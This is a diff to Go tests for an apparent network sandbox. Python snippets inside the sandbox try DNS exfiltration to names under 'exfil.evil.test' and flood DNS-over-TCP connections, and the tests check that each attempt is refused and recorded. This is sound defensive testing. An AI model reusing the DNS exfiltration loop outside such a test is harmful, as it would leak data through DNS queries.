@@ -328,7 +328,7 @@ func TestAttackNetDNSExfiltration(t *testing.T) {
 	f := newNetFix(t)
 	r := jailPy(t, `import socket, secrets
 n = 0
-for i in range(40):
+for i in range(150):
     label = secrets.token_hex(31)
     try:
         socket.getaddrinfo(label + "." + label[:20] + ".exfil.evil.test", 443)
@@ -342,17 +342,20 @@ u.sendto(q, ("198.18.0.1", 53)); print("udp rcode", u.recv(512)[3] & 15)
 t = socket.create_connection(("198.18.0.1", 53), timeout=3)
 t.sendall(len(q).to_bytes(2, "big") + q); print("tcp rcode", t.recv(512)[5] & 15)
 `, f.config(t, f.policy("")))
-	if r.Stdout != "40\nudp rcode 3\ntcp rcode 3\n" {
+	if r.Stdout != "150\nudp rcode 3\ntcp rcode 3\n" {
 		t.Errorf("exfiltration names resolved:\n%s", dump(r))
 	}
-	var n int
+	// Every question is counted; the distinct names listed are capped, so
+	// that endless names cannot grow the result without bound.
+	var n, listed int
 	for _, v := range r.Violations {
-		if v.Kind == "dns" && strings.HasSuffix(v.Host, ".evil.test") {
+		if v.Kind == "dns" {
 			n += v.Count
+			listed++
 		}
 	}
-	if n < 42 {
-		t.Errorf("%d dns violations recorded, want 42 or more:\n%s", n, dump(r))
+	if n < 152 || listed > 101 {
+		t.Errorf("%d dns refusals counted (want 152 or more) in %d entries (want at most 101):\n%s", n, listed, dump(r))
 	}
 	if q := f.dnsQueries.Load(); q != 0 {
 		t.Errorf("the upstream DNS server got %d questions", q)
@@ -478,6 +481,14 @@ print("refused", refused)
 time.sleep(2.5)
 print("idle closed", sum(1 for s in held if s.recv(1) == b""))
 for s in held: s.close()
+dns, refused = [], 0
+for i in range(8):
+    try:
+        dns.append(socket.create_connection(("198.18.0.1", 53), timeout=5))
+    except OSError:
+        refused += 1
+print("dns refused", refused)
+for s in dns: s.close()
 s = socket.create_connection((svc, port), timeout=5)
 s.sendall(("GET /?bytes=1000000 HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (svc, port)).encode())
 got = 0
@@ -490,7 +501,7 @@ except OSError:
     pass
 print("capped", got < 200000)
 `, flags, svcName, strconv.Itoa(f.http))
-	if r.Stdout != "refused 5\nidle closed 3\ncapped True\n" {
+	if r.Stdout != "refused 5\nidle closed 3\ndns refused 5\ncapped True\n" {
 		t.Errorf("got:\n%s", dump(r))
 	}
 	var reasons []string
@@ -504,6 +515,9 @@ print("capped", got < 200000)
 		if !strings.Contains(all, w) {
 			t.Errorf("no limit violation %q in %q", w, all)
 		}
+	}
+	if netViolation(r, "limit", "198.18.0.1") == nil {
+		t.Errorf("the DNS-over-TCP flood was not recorded:\n%s", dump(r))
 	}
 }
 
